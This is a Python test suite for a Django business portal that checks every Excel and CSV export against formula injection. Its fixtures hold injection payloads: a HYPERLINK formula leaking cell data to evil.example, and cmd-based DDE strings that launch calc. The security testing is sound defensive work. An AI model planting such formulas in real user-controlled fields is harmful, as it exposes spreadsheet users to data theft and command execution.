"""Formula injection (CSV/Excel injection) through every spreadsheet the portal writes.

The attack: an enterprise user renames its company `=HYPERLINK(...)` at /portal/profile/ (or
puts a formula in any other text it keeps); a clerk opens an export and Excel runs it. Every
.xlsx and .csv goes through bureau/spreadsheets.py, so each file reopened here must hold the
text as text: no `<f>` element in any sheet part, the hostile text present as a string cell;
in a csv, every cell that starts with = + - @ tab or CR carries the quote prefix (OWASP).

The sweeps discover what they test: view exports by requesting every URL of the portal with
`?format=` / `?export=` set, admin exports from `admin.site._registry`, so a new export is
covered without editing this file.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.db import DatabaseError, IntegrityError, models, transaction
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from import_export.admin import ExportMixin

from bureau import spreadsheets
from bureau.roles import Role
from enterprises.models import Enterprise, QualificationKind
from tests.concurrency import token
from tests.digital.factories import (
    AssessmentFactory,
    DiagnosticVisitFactory,
    ServiceDeliveryFactory,
)
from tests.factories import UserFactory
from tests.incubation.factories import RDPlatformFactory, RecognitionFactory, TenancyFactory

pytestmark = pytest.mark.django_db

# What the enterprise user types into its profile (the form strips the leading tab of
# "\t=1+1", leaving "=1+1": the neutraliser must see the stored value, not the typed one).
HOSTILE_PROFILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "contact_person": "+SUM(1,2)",
    "legal_representative": "-2+3+cmd|' /C calc'!A0",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "main_products": "\t=1+1",
}
STORED = {**HOSTILE_PROFILE, "main_products": "=1+1"}
HOSTILE_REMARK = "=cmd|' /C calc'!A0"  # staff-side free text: notes, findings, remarks
# The OWASP list (CSV injection): a cell starting with one of these is read as a formula.
OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
XLSX = "spreadsheetml"


# --- Reading the files back -------------------------------------------------------------------


def xlsx_findings(content: bytes, name: str) -> tuple[list[str], set[str]]:
    """Problems of one .xlsx (formula elements, formula-looking text without the quote prefix)
    and the set of its string cells' values."""
    problems = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                if FORMULA_ELEMENT.search(archive.read(part)):
                    problems.append(f"{name}: <f> element in {part}")
    strings = set()
    book = openpyxl.load_workbook(io.BytesIO(content))
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{name}: formula cell {ws.title}!{cell.coordinate}")
                elif cell.data_type == "s" and isinstance(cell.value, str):
                    strings.add(cell.value)
                    if cell.value.startswith(OWASP_TRIGGERS) and not cell.quotePrefix:
                        if not PLAIN_NUMBER.fullmatch(cell.value):
                            problems.append(f"{name}: {cell.coordinate} {cell.value!r} unquoted")
    return problems, strings


def csv_findings(content: bytes, name: str) -> tuple[list[str], set[str]]:
    """Problems of one .csv (a cell that starts like a formula) and the set of its cells."""
    problems, cells = [], set()
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for value in row:
            cells.add(value)
            if value.startswith(OWASP_TRIGGERS) and not PLAIN_NUMBER.fullmatch(value):
                problems.append(f"{name}: csv cell {value!r} not prefixed")
    return problems, cells


def findings(response, name: str) -> tuple[list[str], set[str]]:
    # Large lists (the pre-screening exports) stream their file.
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if XLSX in response["Content-Type"]:
        return xlsx_findings(body, name)
    return csv_findings(body, name)


def guarded(text: str, response) -> str:
    """How `text` must appear in the file of `response`."""
    return text if XLSX in response["Content-Type"] else "'" + text


def post_hostile_profile(client: Client, enterprise: Enterprise) -> None:
    """The attack, through the real form as the enterprise user."""
    data = {
        "industry_division": enterprise.industry_division,
        "size_class": enterprise.size_class,
        "established_on": "2020-01-01",
        "registered_capital": "1000000",
        "contact_phone": "0551-12345678",
        "strategic_industry": "",
        **HOSTILE_PROFILE,
        **token(enterprise),
    }
    response = client.post(reverse("enterprises:portal_profile"), data)
    assert response.status_code == 302, response.content.decode()[:2000]
    enterprise.refresh_from_db()
    for field, value in STORED.items():
        assert getattr(enterprise, field) == value


# --- The neutraliser, as a table ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "is_formula", "csv_text"),
    [
        ("=1+1", True, "'=1+1"),
        ('=HYPERLINK("http://x","a")', True, '\'=HYPERLINK("http://x","a")'),
        ("+SUM(1,2)", True, "'+SUM(1,2)"),
        ("-2+3+cmd|' /C calc'!A0", True, "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", True, "'@SUM(A1)"),
        ("\t=1", True, "'\t=1"),
        ("\r=1", True, "'\r=1"),
        ("＝1+1", True, "'＝1+1"),  # full-width: some Excel input methods convert it
        ("=", True, "'="),
        ("-", True, "'-"),
        ("-12.50", False, "-12.50"),  # a number literal cannot carry a formula
        ("+86", False, "+86"),
        ("1e5", False, "1e5"),
        ("-1e-3", False, "-1e-3"),
        ("-١٢", True, "'-١٢"),  # only ASCII digits count as a number
        ("-1+1", True, "'-1+1"),
        ("+86 138 0000 0000", True, "'+86 138 0000 0000"),
        ("安徽自家光电有限公司", False, "安徽自家光电有限公司"),
        ("a=1", False, "a=1"),
        (" =1", False, " =1"),
        ("'=1", False, "'=1"),
        ("", False, ""),
    ],
)
def test_neutraliser_table(value, is_formula, csv_text):
    assert spreadsheets.starts_like_formula(value) is is_formula
    assert spreadsheets.csv_text(value) == csv_text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (12, "12"),
        (Decimal("-3.50"), "-3.50"),
        (-2.5, "-2.5"),
        (True, "是"),
        (datetime.date(2024, 6, 30), "2024-06-30"),
        (datetime.datetime(2024, 6, 30, 8, 5), "2024-06-30 08:05:00"),
        ("=1", "'=1"),
    ],
)
def test_csv_values_render_numbers_and_dates_plainly_and_guard_text(value, expected):
    assert spreadsheets.csv_value(value) == expected


def test_xlsx_writer_keeps_text_as_text_and_numbers_and_dates_native():
    rows = [
        ["=1+1", 5, Decimal("1.50"), datetime.date(2024, 1, 2), None, "#N/A"],
        ["\t@x", -3, 2.5, datetime.datetime(2024, 1, 2, 3, 4), True, "普通文本"],
    ]
    content = spreadsheets.rows_to_xlsx(
        "表=1", ["=标题", "数", "金额", "日期", "空", "文本"], rows, preamble=[["+说明", "规则"]]
    )
    problems, strings = xlsx_findings(content, "unit")
    assert problems == []
    assert {"=1+1", "\t@x", "#N/A", "=标题", "+说明"} <= strings
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [c.value for c in ws[1]][:2] == ["+说明", "规则"]
    assert ws["A2"].font.bold and ws["A3"].quotePrefix and ws["F3"].data_type == "s"
    assert (ws["B3"].value, ws["C3"].value, ws["D3"].value) == (
        5,
        1.5,
        datetime.datetime(2024, 1, 2),
    )
    assert ws["B3"].data_type == "n" and ws["D3"].is_date and ws["E4"].value is True
    assert ws.freeze_panes == "A3"


def test_cells_after_a_guarded_one_keep_their_own_type_and_style():
    at = datetime.datetime(2024, 1, 1, 16, 0, tzinfo=datetime.UTC)
    row = ["普通", 7, "=x", 8, "普通2", at, None, "#REF!", Decimal("-1")]
    ws = openpyxl.load_workbook(io.BytesIO(spreadsheets.rows_to_xlsx("s", ["h"] * 9, [row]))).active
    cells = ws[2]
    assert [c.value for c in cells] == [
        "普通",
        7,
        "=x",
        8,
        "普通2",
        datetime.datetime(2024, 1, 2),
        None,
        "#REF!",
        -1,
    ]
    assert [bool(c.quotePrefix) for c in cells] == [False, False, True] + [False] * 6
    assert not any(c.font.bold for c in cells)
    assert [c.data_type for c in cells] == ["s", "n", "s", "n", "s", "d", "n", "s", "n"]


def test_tz_aware_datetimes_are_written_in_local_time():
    at = datetime.datetime(2024, 1, 1, 16, 0, tzinfo=datetime.UTC)
    ws = openpyxl.load_workbook(io.BytesIO(spreadsheets.rows_to_xlsx("s", ["t"], [[at]]))).active
    assert ws["A2"].value == datetime.datetime(2024, 1, 2, 0, 0)  # Asia/Shanghai
    assert spreadsheets.csv_value(at) == "2024-01-02 00:00:00"


# --- The attack, export by export (each fails on the writers before bureau/spreadsheets) -----


KINDS = [
    ("tech_sme", "tech_sme"),
    ("tech_innovative_sme", "tech_innovative_sme"),
    ("hitech", "hitech"),
    ("innovative_sme", "innovative_sme"),
    ("specialised_sme", "specialised_sme"),
    ("little_giant", "little_giant"),
    ("strategic_emerging", "strategic_emerging"),
]


def test_seven_prescreen_kinds_exist():
    families = set(
        QualificationKind.objects.exclude(rule_family="").values_list("rule_family", flat=True)
    )
    assert families == {family for family, _ in KINDS}


@pytest.mark.parametrize("family", [family for family, _ in KINDS])
def test_prescreen_export_holds_the_hostile_profile_as_text(
    enterprise_client, enterprise, staff_client, family
):
    post_hostile_profile(enterprise_client, enterprise)
    code = QualificationKind.objects.filter(rule_family=family).first().code
    response = staff_client.get(reverse("enterprises:prescreen", args=[code]) + "?export=xlsx")
    assert XLSX in response["Content-Type"]
    problems, strings = findings(response, f"prescreen {code}")
    assert problems == []
    assert STORED["name"] in strings


@pytest.mark.parametrize(
    "url_name", ["digital:assessment_list", "digital:visit_list", "digital:delivery_list"]
)
def test_digital_list_exports_hold_the_hostile_profile_as_text(
    enterprise_client, enterprise, staff_client, url_name
):
    post_hostile_profile(enterprise_client, enterprise)
    AssessmentFactory(enterprise=enterprise, evaluator=HOSTILE_REMARK)
    DiagnosticVisitFactory(enterprise=enterprise, findings=HOSTILE_REMARK)
    ServiceDeliveryFactory(enterprise=enterprise, note=HOSTILE_REMARK)
    response = staff_client.get(reverse(url_name) + "?format=xlsx")
    problems, strings = findings(response, url_name)
    assert problems == []
    assert {STORED["name"], HOSTILE_REMARK} <= strings


@pytest.mark.parametrize(
    "url_name",
    ["incubation:tenant_list", "incubation:platform_list", "incubation:recognition_list"],
)
def test_incubation_list_exports_hold_the_hostile_profile_as_text(
    enterprise_client, enterprise, staff_client, url_name
):
    post_hostile_profile(enterprise_client, enterprise)
    TenancyFactory(enterprise=enterprise)
    RDPlatformFactory(enterprise=enterprise, tech_field=HOSTILE_REMARK)
    RecognitionFactory(enterprise=enterprise)
    response = staff_client.get(reverse(url_name) + "?format=xlsx")
    problems, strings = findings(response, url_name)
    assert problems == []
    assert STORED["name"] in strings


def test_list_exports_keep_dates_and_numbers_as_cells(staff_client, enterprise):
    TenancyFactory(enterprise=enterprise, entered_on=datetime.date(2023, 3, 1))
    response = staff_client.get(reverse("incubation:tenant_list") + "?format=xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    entered = ws.cell(2, 4)
    assert entered.is_date and entered.value == datetime.datetime(2023, 3, 1)
    assert ws.cell(2, 5).value is None  # not left yet: an empty cell, not ""
    AssessmentFactory(enterprise=enterprise, total_score=Decimal("61.5"))
    response = staff_client.get(reverse("digital:assessment_list") + "?format=xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = [c for c in ws[2]]
    assert row[2].is_date and any(c.data_type == "n" and c.value == 61.5 for c in row)


def _export_form_data(client: Client, model_admin, fmt_index: int) -> tuple[str, dict]:
    """The admin's export URL and its form filled in: first resource, every field ticked."""
    from django import forms

    opts = model_admin.model._meta
    url = reverse(f"admin:{opts.app_label}_{opts.model_name}_export")
    form = client.get(url).context["form"]
    data = {"format": str(fmt_index), "resource": "0"}
    for name, field in form.fields.items():
        if isinstance(field, forms.BooleanField) and getattr(field, "resource_index", 0) == 0:
            data[name] = "on"
    return url, data


def _admin_export(client: Client, model_admin, fmt_index: int):
    """POST the admin's export form as a clerk would (the form page is fetched first)."""
    url, data = _export_form_data(client, model_admin, fmt_index)
    return client.post(url, data)


def _format_indexes(client: Client, model_admin) -> dict[str, int]:
    opts = model_admin.model._meta
    page = client.get(reverse(f"admin:{opts.app_label}_{opts.model_name}_export"))
    return {
        label: int(value)
        for value, label in page.context["form"].fields["format"].choices
        if value != ""
    }


@pytest.mark.parametrize("label", ["xlsx", "csv"])
def test_admin_enterprise_export_holds_the_hostile_profile_as_text(
    enterprise_client, enterprise, staff_client, label
):
    post_hostile_profile(enterprise_client, enterprise)
    model_admin = admin.site._registry[Enterprise]
    response = _admin_export(
        staff_client, model_admin, _format_indexes(staff_client, model_admin)[label]
    )
    assert response.status_code == 200
    problems, cells = findings(response, f"admin enterprise {label}")
    assert problems == []
    assert guarded(STORED["name"], response) in cells
    assert guarded(STORED["main_products"], response) in cells


@pytest.mark.parametrize("n", [3, 30])
@pytest.mark.parametrize("label", ["xlsx", "csv"])
def test_admin_export_queries_do_not_grow_with_rows(
    staff_client, django_assert_num_queries, n, label
):
    from tests.factories import EnterpriseFactory, ParkZoneFactory

    for i in range(n):
        EnterpriseFactory(zone=ParkZoneFactory(name=f"片区{i}"), name=f"=企业{i}")
    model_admin = admin.site._registry[Enterprise]
    url, data = _export_form_data(
        staff_client, model_admin, _format_indexes(staff_client, model_admin)[label]
    )
    # session, user, the user's and its groups' permissions, its groups' names (the role);
    # the zones (the lookup widget's one query), the enterprises; the security log's entry
    # for the download (audit middleware); the session saved (savepoint, update, release).
    with django_assert_num_queries(11) as captured:
        response = staff_client.post(url, data)
    assert any("audit_securityevent" in q["sql"] for q in captured.captured_queries)
    problems, cells = findings(response, label)
    assert problems == [] and len(cells) > n


def test_every_admin_export_offers_only_the_neutralising_formats(staff_client):
    exporting = [m for m in admin.site._registry.values() if isinstance(m, ExportMixin)]
    assert len(exporting) >= 25
    for model_admin in exporting:
        offered = model_admin.get_export_formats()
        assert offered and set(offered) <= set(spreadsheets.EXPORT_FORMATS), model_admin


def test_a_system_check_refuses_an_admin_that_exports_another_way(monkeypatch):
    from import_export.admin import ImportExportModelAdmin

    from bureau.admin import check_exports_are_neutralised
    from bureau.models import ActivityKind

    assert check_exports_are_neutralised() == []
    plain = ImportExportModelAdmin(ActivityKind, admin.site)  # the library's own formats
    monkeypatch.setitem(admin.site._registry, ActivityKind, plain)
    errors = check_exports_are_neutralised()
    assert [e.id for e in errors] == ["bureau.E001"]
    assert "bureau.spreadsheets" in errors[0].msg


def test_csv_starts_with_a_byte_order_mark_and_quotes_every_field():
    text = spreadsheets.write_csv(["名称", "金额"], [["=1+1", Decimal("-5.00")], ["a;=b", None]])
    assert text.startswith("\ufeff")
    assert text[1:].splitlines() == ['"名称","金额"', '"\'=1+1","-5.00"', '"a;=b",""']


def test_english_exports_are_neutralised_too(enterprise_client, enterprise, staff_client):
    from django.conf import settings
    from django.utils import translation

    post_hostile_profile(enterprise_client, enterprise)
    AssessmentFactory(enterprise=enterprise)
    staff_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = staff_client.get(reverse("digital:assessment_list") + "?format=xlsx")
    problems, strings = findings(response, "digital assessments, en")
    assert problems == []
    assert STORED["name"] in strings
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert "企业名称" not in [c.value for c in ws[1]]  # the headers are in English
    model_admin = admin.site._registry[Enterprise]
    response = _admin_export(
        staff_client, model_admin, _format_indexes(staff_client, model_admin)["csv"]
    )
    problems, cells = findings(response, "admin enterprise csv, en")
    assert problems == [] and "'" + STORED["name"] in cells
    with translation.override("en"):
        assert (spreadsheets.csv_value(True), spreadsheets.csv_value(False)) == ("Yes", "No")
    with translation.override("zh-hans"):
        assert (spreadsheets.csv_value(True), spreadsheets.csv_value(False)) == ("是", "否")


# --- The sweep: every export URL and every admin export format, on the demo data ---------------


def _routes(patterns, prefix: str = ""):
    for p in patterns:
        route = prefix + str(p.pattern)
        if isinstance(p, URLResolver):
            yield from _routes(p.url_patterns, route)
        elif isinstance(p, URLPattern):
            yield route


def export_urls() -> list[str]:
    """Every page of the portal (outside the admin) that could answer with a file: the
    argument-free routes, and the pre-screening route once for each kind."""
    urls = []
    for route in _routes(get_resolver().url_patterns):
        if route.startswith(("admin/", "accounts/", "i18n/", "^")):
            continue
        if "<" not in route:
            urls.append("/" + route)
        elif route == "ladder/prescreen/<slug:code>/":
            codes = QualificationKind.objects.exclude(rule_family="").values_list("code", flat=True)
            urls += [f"/ladder/prescreen/{code}/" for code in codes]
    return urls


def hostilise_every_text_field() -> int:
    """Put formula text into every free-text column of every model an admin exports (a field
    a constraint refuses it in is left as it is); returns the number of columns changed."""
    from audit.models import SecurityEvent

    changed = 0
    for model, model_admin in admin.site._registry.items():
        if not isinstance(model_admin, ExportMixin):
            continue
        if model is SecurityEvent:
            # Append-only: the payload arrives as new events (as an attacker's sign-in name
            # and request path would), never as an edit.
            SecurityEvent.objects.create(
                kind="login_failed",
                username=HOSTILE_REMARK,
                path="=1+1",
                method="=A1",
                detail={"note": HOSTILE_REMARK},
            )
            changed += 1
            continue
        for field in model._meta.concrete_fields:
            if not isinstance(field, models.CharField | models.TextField) or field.choices:
                continue
            limit = field.max_length or 1000
            value = HOSTILE_REMARK if limit >= len(HOSTILE_REMARK) else "=1+1"[:limit]
            try:
                with transaction.atomic():
                    model._default_manager.update(**{field.name: value})
                changed += 1
            except (IntegrityError, DatabaseError):
                pass
    return changed


def test_every_export_of_the_portal_neutralises_user_text(
    demo_data,  # first: the demo year replaces every table's rows
    enterprise_client,
    enterprise,
    staff_client,
    settings,
    tmp_path,
    django_capture_on_commit_callbacks,
):
    settings.MEDIA_ROOT = tmp_path
    post_hostile_profile(enterprise_client, enterprise)
    Enterprise.objects.exclude(pk=enterprise.pk).update(name=STORED["name"])
    problems: list[str] = []

    # 1. Every view that answers with a spreadsheet.
    exported: dict[str, set[str]] = {}
    for url in export_urls():
        for query in ("?export=xlsx&format=xlsx", "?export=csv&format=csv"):
            response = staff_client.get(url + query)
            kind = response.get("Content-Type", "")
            if response.status_code != 200 or not (XLSX in kind or "csv" in kind):
                continue
            found, cells = findings(response, url + query)
            problems += found
            exported[url + query] = cells
    expected = {
        *(
            f"/ladder/prescreen/{c}/?export=xlsx&format=xlsx"
            for c in QualificationKind.objects.exclude(rule_family="").values_list(
                "code", flat=True
            )
        ),
        "/digital/assessments/?export=xlsx&format=xlsx",
        "/digital/visits/?export=xlsx&format=xlsx",
        "/digital/deliveries/?export=xlsx&format=xlsx",
        "/incubation/tenants/?export=xlsx&format=xlsx",
        "/incubation/platforms/?export=xlsx&format=xlsx",
        "/incubation/recognitions/?export=xlsx&format=xlsx",
    }
    assert expected <= set(exported), sorted(expected - set(exported))
    # Each list of enterprises shows the name (the incubator list has no enterprise column).
    for url in sorted(expected | {u for u in exported if "/incubators/" not in u}):
        if STORED["name"] not in exported[url] and "'" + STORED["name"] not in exported[url]:
            problems.append(f"{url}: the hostile company name is missing")

    # 2. The annual summary's workbook, requested and downloaded as staff do.
    from reports import services as report_services
    from reports.models import ExportJob

    report_services.regenerate(report_services.ensure_summary(2024))
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(reverse("reports:export_request", args=[2024]), {"fmt": "xlsx"})
    job = ExportJob.objects.filter(fmt="xlsx").latest("pk")
    response = staff_client.get(reverse("reports:export_download", args=[job.pk]))
    content = b"".join(response.streaming_content)
    found, strings = xlsx_findings(content, "summary xlsx")
    problems += found
    if STORED["name"] not in strings:
        problems.append("summary xlsx: the hostile company name is missing")

    # 3. Every admin export, in every format it offers, with formula text in every column;
    # by a clerk who may also export the talent roster (personal data).
    assert hostilise_every_text_field() >= 40
    clerk = UserFactory(username="clerk", role=Role.BUREAU_STAFF)
    clerk.user_permissions.add(
        Permission.objects.get(content_type__app_label="talent", codename="view_personal_data")
    )
    clerk_client = Client()
    clerk_client.force_login(clerk)
    # The security log is the audit admin's alone (三权分立): exported by the audit admin.
    auditor_client = Client()
    auditor_client.force_login(UserFactory(username="auditor", role=Role.AUDIT_ADMIN))
    carried = 0
    swept_security_log = False
    for model_admin in admin.site._registry.values():
        if not isinstance(model_admin, ExportMixin):
            continue
        opts = model_admin.model._meta
        exporter = auditor_client if opts.label == "audit.SecurityEvent" else clerk_client
        resource = model_admin.get_export_resource_classes(None)[0]()
        raw = {
            str(v)
            for row in resource.export(queryset=model_admin.model._default_manager.all())
            for v in row
            if isinstance(v, str) and v.startswith(OWASP_TRIGGERS) and not PLAIN_NUMBER.fullmatch(v)
        }
        carried += bool(raw)
        swept_security_log |= opts.label == "audit.SecurityEvent" and bool(raw)
        for label, index in _format_indexes(exporter, model_admin).items():
            name = f"admin {opts.label} {label}"
            if label not in ("xlsx", "csv"):
                problems.append(f"{name}: a format the shared writer does not write")
                continue
            response = _admin_export(exporter, model_admin, index)
            if response.status_code != 200 or "attachment" not in response.get(
                "Content-Disposition", ""
            ):
                problems.append(f"{name}: no file ({response.status_code})")
                continue
            found, cells = findings(response, name)
            problems += found
            missing = {t for t in raw if guarded(t, response) not in cells}
            if missing:
                problems.append(f"{name}: hostile text missing {sorted(missing)[:3]}")
    assert carried >= 20  # the sweep saw formula text in most admin exports
    assert swept_security_log
    assert problems == []

    # 4. The import templates (headers, an example row, the lists of choices), by the clerk
    # who may also import the talent roster.
    from bureau.admin import AllOrNothingImportMixin

    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, AllOrNothingImportMixin):
            opts = model_admin.model._meta
            response = clerk_client.get(
                reverse(f"admin:{opts.app_label}_{opts.model_name}_import_template")
            )
            assert response.status_code == 200, opts.label
            assert xlsx_findings(response.content, f"template {opts.label}")[0] == []


# --- No other path --------------------------------------------------------------------------------

# reports/excel.py serialises the summary's cells itself; bureau/importing.py's template needs
# comments and drop-down lists (a normal workbook): both guard text through bureau.spreadsheets.
WRITERS = {"bureau/spreadsheets.py", "reports/excel.py", "bureau/importing.py"}
WRITER_CALL = re.compile(
    r"\bWorkbook\(|\bcsv\.(?:writer|DictWriter)\(|\.export\(\s*[\"'](?:xlsx|xls|csv|tsv|ods)"
    r"|\bexport_set\(|\bdataset\.(?:xlsx|csv|tsv|xls|ods)\b"
)


def test_no_module_but_the_shared_writer_writes_a_spreadsheet():
    from django.apps import apps
    from django.conf import settings

    base = settings.BASE_DIR
    ours = [c for c in apps.get_app_configs() if Path(c.path).is_relative_to(base)]
    assert len(ours) >= 8  # bureau, enterprises, incubation, digital, talent, finance, reports…
    offenders = []
    for config in ours:
        for path in sorted(Path(config.path).rglob("*.py")):
            rel = path.relative_to(base).as_posix()
            if "/migrations/" in rel or rel in WRITERS:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if WRITER_CALL.search(line):
                    offenders.append(f"{rel}:{number}: {line.strip()}")
    assert offenders == []
